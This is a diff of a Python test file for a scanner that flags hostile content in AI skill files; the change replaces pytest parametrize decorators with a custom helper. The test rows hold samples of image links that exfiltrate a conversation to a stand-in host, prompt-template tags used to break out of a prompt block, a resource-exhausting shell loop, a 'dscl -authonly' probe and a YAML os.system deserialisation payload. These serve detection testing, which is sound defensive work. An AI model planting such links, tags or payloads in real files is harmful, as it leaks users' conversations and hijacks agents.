@@ -1,6 +1,7 @@
 """Marks in the text itself: tags of runtimes, addresses with holes, headers that are not honest."""
 
 import pytest
+from tests.rows import each_row
 
 from prowess.safety.model import Level
 from prowess.safety.prose.patterns import (
@@ -18,7 +19,7 @@ def marks(text: str, path: str = "SKILL.md") -> list[tuple[str, str]]:
     return [(mark.rule_id, mark.spot.text) for mark in text_marks(View.raw(path, text))]
 
 
-@pytest.mark.parametrize(
+@each_row(
     "link",
     [
         f"![a]({HOST}/p?d={{conversation}})",
@@ -41,7 +42,7 @@ def test_a_picture_in_html_leaks_as_well() -> None:
     assert marks(text) == [("render-exfiltration", text)]
 
 
-@pytest.mark.parametrize(
+@each_row(
     "text",
     [
         f"![a]({HOST}/p.png)",
@@ -63,7 +64,7 @@ def test_a_link_in_quotation_marks_is_quoted() -> None:
     assert [mark.lowered_by for mark in text_marks(view)] == [("quoted",)]
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("text", "rule", "found"),
     [
         ("while true; do cat /dev/urandom; done", "resource-abuse", "while true; do cat /dev/uran"),
@@ -94,7 +95,7 @@ def test_a_pool_is_used_in_a_script_and_may_be_watched_in_prose() -> None:
     assert levels == {"a.md": [Level.INFO], "a.sh": [None]}
 
 
-@pytest.mark.parametrize(
+@each_row(
     "text",
     [
         "while True:" + "\n" * 100_000,
@@ -105,7 +106,6 @@ def test_a_pool_is_used_in_a_script_and_may_be_watched_in_prose() -> None:
         "dscl . -authonly " * 10_000,
         "index-url" + "\n" * 100_000,
     ],
-    ids=range(7),
 )
 def test_crafted_text_is_searched_in_time(text: str) -> None:
     list(text_marks(View.raw("SKILL.md", text)))
@@ -118,14 +118,14 @@ def front(text: str) -> list[tuple[str, str]]:
     return [(mark.rule_id, mark.spot.text) for mark in frontmatter_marks(View.raw("a", text))]
 
 
-@pytest.mark.parametrize(
+@each_row(
     "tag", ["</skill>", "</available_skills>", "<system>", "<|im_start|>", "[INST]", "<<SYS>>"]
 )
 def test_a_tag_of_the_prompt_in_the_block_breaks_out(tag: str) -> None:
     assert front(f"description: a {tag} b") == [("prompt-block-breakout", tag)]
 
 
-@pytest.mark.parametrize(
+@each_row(
     ("text", "rule"),
     [
         ("a: !!python/object/apply:os.system [ls]", "unsafe-deserialise"),
